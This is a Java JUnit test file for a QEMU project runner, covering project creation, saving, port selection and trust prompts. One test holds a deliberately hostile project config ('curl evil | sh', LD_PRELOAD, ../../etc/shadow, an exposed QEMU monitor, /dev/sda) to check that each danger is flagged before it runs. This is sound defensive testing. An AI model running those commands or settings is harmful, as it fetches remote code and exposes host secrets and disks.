// SPDX-License-Identifier: Apache-2.0
package trilobite.runner.project;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import trilobite.model.check.Finding;
import trilobite.model.check.ProjectRules;
import trilobite.model.port.Projects;
import trilobite.model.project.FieldPath;
import trilobite.model.project.Forward;
import trilobite.model.project.ProjectEdit;
import trilobite.runner.net.FreePorts;

class ProjectFoldersTest {

  @TempDir Path root;

  private Projects projects;

  @BeforeEach
  void setUp() {
    projects = Bench.in(root).projects();
  }

  private Path project(String text) throws IOException {
    var folder = Files.createDirectory(root.resolve("p"));
    Files.writeString(folder.resolve("trilobite.toml"), text);
    return folder;
  }

  @Test
  void createsTheDemoNamedAndTrusted() throws IOException {
    var folder = root.resolve("new/demo");
    var parsed = projects.create(folder, "tidepool", "ebb \"1\"");
    assertThat(parsed.findings()).isEmpty();
    assertThat(parsed.project().orElseThrow().name()).isEqualTo("ebb \"1\"");
    assertThat(parsed.project().orElseThrow().toolchain()).isEqualTo("tide");
    assertThat(folder.resolve("src/main.c")).isRegularFile();
    assertThat(folder.resolve(".gitignore")).hasContent("/build/");
    assertThat(folder.resolve("template.toml")).doesNotExist();
    assertThat(projects.trustQuestion(folder).trusted()).isTrue();
    assertThat(projects.recent()).containsExactly(folder);
  }

  @Test
  void aDraftIsWhatCreateWrites() throws IOException {
    var folder = root.resolve("new/demo");
    var draft = projects.draft("tidepool", "ebb \"1\"");
    assertThat(root.resolve("new")).doesNotExist();
    assertThat(projects.preview(folder, draft.project().orElseThrow(), "default").words())
        .contains("-kernel", folder.resolve("build/tidepool.elf").toString());
    assertThat(projects.create(folder, "tidepool", "ebb \"1\"").text()).isEqualTo(draft.text());
  }

  @Test
  void thereIsNoDraftOfATemplateThatIsNot() {
    assertThatThrownBy(() -> projects.draft("../tidepool", "x"))
        .hasMessageStartingWith("There is no template “../tidepool”; there are ");
  }

  @Test
  void aNewProjectGetsAPortThatNobodyHas() throws IOException {
    var taken = new Forward("tcp", "127.0.0.1", 8080, 80);
    // Free or not on this machine, 8080 is in use from here on.
    try (var _ = FreePorts.free(taken, 8080) ? listenOn(8080) : listenOn(0)) {
      var parsed = projects.create(root.resolve("demo"), "tidepool", "demo");

      var forwards = parsed.project().orElseThrow().targets().get("default").network().forwards();
      assertThat(forwards).hasSize(1);
      int port = forwards.getFirst().hostPort();
      assertThat(port).isGreaterThan(8080);
      assertThat(FreePorts.free(taken, port)).isTrue();
      assertThat(parsed.text()).contains("forward = [\"" + port + ":80\"]").contains("# 64 MiB");
      assertThat(projects.trustQuestion(root.resolve("demo")).trusted()).isTrue();
    }
  }

  private static ServerSocket listenOn(int port) throws IOException {
    return new ServerSocket(port, 1, InetAddress.getLoopbackAddress());
  }

  @Test
  void scriptsOfATemplateCanBeRun() throws IOException {
    var folder = root.resolve("vm");
    assertThat(projects.create(folder, "linux-microvm", "vm").findings()).isEmpty();
    assertThat(folder.resolve("get-package")).isExecutable();
    assertThat(Files.isExecutable(folder.resolve("Makefile"))).isFalse();
  }

  @Test
  void createRefusesAFolderThatHoldsSomethingAndAnUnknownTemplate() throws IOException {
    Files.writeString(Files.createDirectory(root.resolve("full")).resolve("mine"), "x");
    assertThatThrownBy(() -> projects.create(root.resolve("full"), "tidepool", "x"))
        .hasMessageContaining("is not empty");
    assertThat(root.resolve("full/mine")).hasContent("x");
    assertThatThrownBy(() -> projects.create(root.resolve("n"), "none", "x"))
        .hasMessageContaining("there are")
        .hasMessageContaining("tidepool");
    assertThat(root.resolve("n")).doesNotExist();
  }

  @Test
  void savingKeepsModeAndLink() throws IOException {
    var folder = project("[target.a]\n");
    var real = root.resolve("real.toml");
    Files.move(folder.resolve("trilobite.toml"), real);
    Files.setPosixFilePermissions(
        real, java.nio.file.attribute.PosixFilePermissions.fromString("rw-r-----"));
    Files.createSymbolicLink(folder.resolve("trilobite.toml"), real);
    projects.save(folder, "[target.a]\n", "[target.b]\n");
    assertThat(real).hasContent("[target.b]");
    assertThat(folder.resolve("trilobite.toml")).isSymbolicLink();
    assertThat(Files.getPosixFilePermissions(real)).hasSize(3);
  }

  @Test
  @Tag("bad:two-windows")
  void savingOverSomebodyElsesChangeWritesNothing() throws IOException {
    var folder = project("[target.other]\n");
    assertThatThrownBy(() -> projects.save(folder, "[target.a]\n", "[target.b]\n"))
        .isInstanceOf(Projects.ChangedOnDiskException.class);
    assertThat(folder.resolve("trilobite.toml")).hasContent("[target.other]");
  }

  @Test
  @Tag("bad:two-windows")
  void twoWindowsOnOneProjectNeverLoseAChangeSilently() throws IOException {
    var folder = project("[target.a]\n");
    var one = Bench.in(root).projects();
    var other = Bench.in(root).projects();
    var seen = one.open(folder).text();
    var seenByOther = other.open(folder).text();
    one.save(folder, seen, seen + "# one\n");
    assertThatThrownBy(() -> other.save(folder, seenByOther, seenByOther + "# other\n"))
        .isInstanceOf(Projects.ChangedOnDiskException.class);
    assertThat(Files.readString(folder.resolve("trilobite.toml"))).endsWith("# one\n");
  }

  @Test
  @Tag("bad:hostile-build")
  void clonedProjectAsksOncePerContent() throws IOException {
    var text =
        """
        [project]
        name = "x"
        toolchain = "make"
        [build]
        command = ["sh", "-c", "curl evil | sh\\u001b[2K"]
        env = { LD_PRELOAD = "/tmp/e.so" }
        [target.a]
        kernel = "../../etc/shadow"
        qemu = ["-monitor", "tcp:0.0.0.0:4444"]
        devices = ["edu"]
        drive = [{ file = "/dev/sda", snapshot = false }]
        network = { forward = ["tcp:0.0.0.0:80:80", "8080:80"], outbound = true }
        """;
    var folder = project(text);
    var question = projects.trustQuestion(folder);
    assertThat(question.trusted()).isFalse();
    assertThat(question.asks())
        .containsExactly(
            "Build runs: sh -c 'curl evil | sh\\u001b[2K'",
            "Build sets: LD_PRELOAD=/tmp/e.so",
            "QEMU gets: -monitor tcp:0.0.0.0:4444",
            "QEMU gets: -device edu",
            "The guest reads and writes: /dev/sda",
            "The guest reads: ../../etc/shadow",
            "Other machines reach the guest by: tcp:0.0.0.0:80:80",
            "The guest reaches the network and this machine's own services");
    projects.trust(question);
    assertThat(projects.trustQuestion(folder).trusted()).isTrue();
    projects.save(folder, text, text.replace("4444", "4445"));
    assertThat(projects.trustQuestion(folder).trusted()).isFalse();
    projects.save(folder, text.replace("4444", "4445"), text);
    assertThat(projects.trustQuestion(folder).trusted()).isTrue();
  }

  @Test
  void theQuestionNamesTheCommandsAsTheyWillRun() throws IOException {
    var folder = project("[project]\nname='x'\ntoolchain='make'\n[target.a]\n");
    var cores = Runtime.getRuntime().availableProcessors();
    assertThat(projects.trustQuestion(folder).asks())
        .containsExactly("Build runs: make -j" + cores);
  }

  @Test
  void trustDoesNotFollowTheContentToAnotherFolder() throws IOException {
    var text = "[project]\nname='x'\ntoolchain='make'\n[target.a]\n";
    projects.trust(projects.trustQuestion(project(text)));
    var other = Files.createDirectory(root.resolve("other"));
    Files.writeString(other.resolve("trilobite.toml"), text);
    assertThat(projects.trustQuestion(other).trusted()).isFalse();
  }

  @Test
  void anotherProjectInThePlaceOfOneMadeHereIsAskedAbout() throws IOException {
    var folder = root.resolve("made");
    projects.create(folder, "tidepool", "x");
    Files.move(folder, root.resolve("away"));
    Files.createDirectory(folder);
    Files.copy(root.resolve("away/trilobite.toml"), folder.resolve("trilobite.toml"));
    assertThat(projects.trustQuestion(folder).trusted()).isFalse();
  }

  @Test
  void sealedProjectWithoutBuildNeedsNoTrust() throws IOException {
    var folder = project("[project]\nname='x'\n[target.a]\nkernel='a.elf'\n");
    assertThat(projects.trustQuestion(folder).asks()).isEmpty();
    assertThat(projects.trustQuestion(folder).trusted()).isTrue();
  }

  @Test
  @Tag("bad:port-in-use")
  void factsNameTheProgramThatHasThePort() throws IOException {
    try (var taken = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      int port = taken.getLocalPort();
      var forward = "network = { forward = [\"" + port + ":80\"] }\n";
      var folder = project("[project]\nname='x'\n[target.a]\nkernel='a.elf'\n" + forward);
      Files.writeString(folder.resolve("a.elf"), "I am a text\n");
      var parsed = projects.open(folder);
      var facts = projects.hostFacts(folder, parsed.project().orElseThrow());
      assertThat(ProjectRules.check(parsed, "a", facts))
          .extracting(Finding::message)
          .anySatisfy(
              message ->
                  assertThat(message)
                      .isEqualTo(
                          "127.0.0.1:"
                              + port
                              + " is in use by java (pid "
                              + ProcessHandle.current().pid()
                              + ")."))
          .anySatisfy(message -> assertThat(message).contains("a.elf is a text file"));
      assertThat(facts.room().memoryTotal()).isGreaterThan(1L << 28);
      assertThat(facts.room().memoryFree()).isPositive();
      assertThat(facts.room().shmFree()).isPositive();
      assertThat(facts.toolchains()).contains("tide", "make", "command", "linux-microvm");
      var wish = new Forward("tcp", "127.0.0.1", port, 80);
      assertThat(projects.freePort(wish)).isPositive().isNotEqualTo(port);
    }
  }

  @Test
  void freePortIsTheOneWishedForWhereItIsFree() throws IOException {
    int port = projects.freePort(new Forward("tcp", "127.0.0.1", 0, 80));
    assertThat(projects.freePort(new Forward("tcp", "127.0.0.1", port, 80))).isEqualTo(port);
    assertThat(projects.freePort(new Forward("udp", "127.0.0.1", 0, 80))).isPositive();
  }

  @Test
  void previewIsTheCommandOfARun() throws IOException {
    var folder = root.resolve("demo");
    var project = projects.create(folder, "tidepool", "x").project().orElseThrow();
    var target = project.targets().sequencedKeySet().getFirst();
    var words = projects.preview(folder, project, target).words();
    assertThat(words).contains("/usr/bin/qemu-system-x86_64", "-kernel");
    assertThat(String.join(" ", words)).contains("$RUN/qmp.sock").contains("restrict=on");
  }

  @Test
  void editsOfTheFormReachTheDisk() throws IOException {
    var folder = project("# mine\n[target.a]\nmemory = '64M' # much\n");
    var text = projects.open(folder).text();
    var edit = new ProjectEdit.Set(FieldPath.target("a", "memory"), "16M");
    projects.save(folder, text, new TomlProjectFormat().edit(text, List.of(edit)));
    assertThat(Files.readString(folder.resolve("trilobite.toml")))
        .isEqualTo("# mine\n[target.a]\nmemory = '16M' # much\n");
  }
}
